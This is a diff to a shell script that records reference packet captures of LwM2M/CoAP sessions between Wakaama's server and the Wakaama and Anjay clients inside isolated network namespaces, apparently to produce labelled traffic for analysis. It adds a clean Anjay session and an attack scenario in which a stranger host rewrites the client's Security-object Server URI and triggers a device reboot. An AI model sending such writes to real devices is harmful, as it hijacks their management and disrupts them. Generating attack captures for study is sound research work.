@@ -4,22 +4,36 @@
 # coap-client. Nothing here is third-party code: the programs are built from their own public
 # sources (see captures/reference/README.md, "Attacks on Wakaama") and named on the command line.
 #
-#   captures/make-reference.sh WAKAAMA_BUILD OUT_DIR
+#   captures/make-reference.sh WAKAAMA_BUILD OUT_DIR [ANJAY_DEMO]
 #
-# WAKAAMA_BUILD holds build-server/lwm2mserver and build-client-udp/lwm2mclient; coap-client-notls
-# (Debian's libcoap3-bin), tcpdump and tshark must be on PATH. Needs root: each scenario runs in a
+# WAKAAMA_BUILD holds build-server/lwm2mserver and build-client-udp/lwm2mclient; ANJAY_DEMO is
+# AVSystem Anjay's demo client (output/bin/demo), for the anjay-* scenarios; coap-client-notls
+# (Debian's libcoap3-bin), tcpdump and tshark must be on PATH. Building them, outside this tree:
+#   Wakaama (github.com/eclipse-wakaama/wakaama): its CMake files want the tinydtls submodule even
+#   for plain UDP, so either check it out or create empty placeholders for the files that
+#   transport/tinydtls/tinydtls.cmake lists (they are never compiled for these targets); then
+#     cmake -S examples/server -B build-server -DWAKAAMA_UNIT_TESTS=OFF
+#     cmake --build build-server --target lwm2mserver
+#     cmake -S examples/client/udp -B build-client-udp -DWAKAAMA_UNIT_TESTS=OFF
+#     cmake --build build-client-udp --target lwm2mclient
+#   Anjay (github.com/AVSystem/Anjay, with its deps/avs_commons submodule; avs_coap is in-tree):
+#     cmake -S . -B build -DDTLS_BACKEND=openssl -DWITH_DEMO=ON -DWITH_TEST=OFF
+#     cmake --build build --target demo
+#   (with no DTLS backend the demo does not link: avs_crypto_clear_buffer is missing).
+# Needs root: each scenario runs in a
 # network namespace of its own (unshare -n), so the capture holds that scenario's packets and
 # nothing else that happens to use the host's loopback, and 127.0.0.2 is a second host on it.
 # Timing comes from real programs, so a new run gives new timestamps, ports and tokens: the
 # README's tables describe the committed files, not a future run.
 set -euo pipefail
 
-if [[ $# -ne 2 ]]; then
-  echo "usage: $0 WAKAAMA_BUILD OUT_DIR" >&2
+if [[ $# -ne 2 && $# -ne 3 ]]; then
+  echo "usage: $0 WAKAAMA_BUILD OUT_DIR [ANJAY_DEMO]" >&2
   exit 2
 fi
 WAKAAMA=$(cd "$1" && pwd)
 OUT=$(mkdir -p "$2" && cd "$2" && pwd)
+ANJAY_DEMO=${3:+$(realpath "$3")}
 SERVER_BIN=$WAKAAMA/build-server/lwm2mserver
 CLIENT_BIN=$WAKAAMA/build-client-udp/lwm2mclient
 COAP_CLIENT=${COAP_CLIENT:-coap-client-notls}
@@ -38,12 +52,17 @@ SERVER_URI=coap://127.0.0.1:5683
 
 # ---- one scenario, inside its own network namespace ------------------------------------------
 run_scenario() { # NAME: re-runs this script in a fresh network namespace for one scenario
-  REFCAPS_SCENARIO=$1 unshare -n "$0" "$WAKAAMA" "$OUT"
+  REFCAPS_SCENARIO=$1 unshare -n "$0" "$WAKAAMA" "$OUT" ${ANJAY_DEMO:+"$ANJAY_DEMO"}
 }
 
 if [[ -n ${REFCAPS_SCENARIO:-} ]]; then
   ip link set lo up
+  # getaddrinfo(AI_ADDRCONFIG), with which Anjay binds its local port, finds no IPv4 address in
+  # a namespace that has only 127.0.0.1; a documentation address on lo gives it one. Nothing is
+  # sent to or from it.
+  ip addr add 192.0.2.1/32 dev lo
   work=$(mktemp -d)
+  cd "$work"  # Anjay's demo keeps its firmware-update state in files in its working directory
   pids=()
   cleanup() {
     for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
@@ -82,6 +101,15 @@ if [[ -n ${REFCAPS_SCENARIO:-} ]]; then
     sleep 1
   }
   client() { echo "$*" >&4; sleep "${PAUSE:-0.5}"; }
+  start_anjay() { # NAME: Anjay's demo client on 127.0.0.1:56840, registering at once
+    mkfifo "$work/anjay.in"
+    "$ANJAY_DEMO" -e "$1" -u "$SERVER_URI" -l 300 --port 56840 <"$work/anjay.in" >"$work/anjay.out" 2>&1 &
+    pids+=($!)
+    exec 4>"$work/anjay.in"
+    sleep 1
+  }
+  # Closing its standard input makes Anjay's demo deregister and exit.
+  quit_anjay() { exec 4>&-; sleep 1; }
   # The registration location the server gave the client: Wakaama numbers clients from 0 in
   # the order they register, and prints "New client #N registered."
   location() {
@@ -232,6 +260,31 @@ if [[ -n ${REFCAPS_SCENARIO:-} ]]; then
     raw 127.0.0.2 5683 '4002abceb37264'
     quit_client
     ;;
+  anjay-clean-session)
+    # Anjay's demo client managed by Wakaama's server: nothing wrong in it.
+    start_server
+    start_anjay anjay-clean
+    server read 0 /3/0
+    server read 0 /1/1
+    server disc 0 /3/0
+    server time 0 /3/0/13 1 2
+    server observe 0 /3/0/13
+    sleep 3.2
+    server cancel 0 /3/0/13
+    server write 0 /3/0/14 +01:00
+    server exec 0 /1/1/8
+    sleep 0.5
+    quit_anjay
+    ;;
+  anjay-attack-security-write)
+    # A stranger repoints Anjay's server account: a write of the Security object's Server URI.
+    start_server
+    start_anjay anjay-victim
+    server read 0 /3/0/0
+    stranger 127.0.0.2 -m put -t 0 -e coap://198.51.100.7:5683 coap://127.0.0.1:56840/0/1/0
+    stranger 127.0.0.2 -m post coap://127.0.0.1:56840/3/0/4
+    quit_anjay
+    ;;
   *)
     echo "$0: unknown scenario $REFCAPS_SCENARIO" >&2
     exit 2
@@ -256,6 +309,7 @@ SCENARIOS=(
   wakaama-attack-observe-flood
   wakaama-attack-malformed-coap
 )
+[[ -n $ANJAY_DEMO ]] && SCENARIOS+=(anjay-clean-session anjay-attack-security-write)
 FIELDS=(frame.number frame.time_epoch ip.src ipv6.src udp.srcport ip.dst ipv6.dst udp.dstport coap.type coap.code coap.mid
   coap.token coap.opt.uri_path_recon coap.opt.uri_query coap.opt.ctype coap.opt.accept coap.opt.observe
   coap.opt.block_number coap.opt.block_mflag coap.opt.block_size coap.opt.location_path
@@ -266,6 +320,7 @@ for name in "${SCENARIOS[@]}"; do
   run_scenario "$name"
   args=()
   for f in "${FIELDS[@]}"; do args+=(-e "$f"); done
-  tshark -r "$OUT/$name.pcap" -d udp.port==56830,coap -d udp.port==56831,coap -Y coap -T fields -E header=y -E separator=/t \
+  tshark -r "$OUT/$name.pcap" -d udp.port==56830,coap -d udp.port==56831,coap \
+    -d udp.port==56840,coap -Y coap -T fields -E header=y -E separator=/t \
     -E occurrence=a -E aggregator=, "${args[@]}" >"$OUT/$name.tshark.tsv"
 done
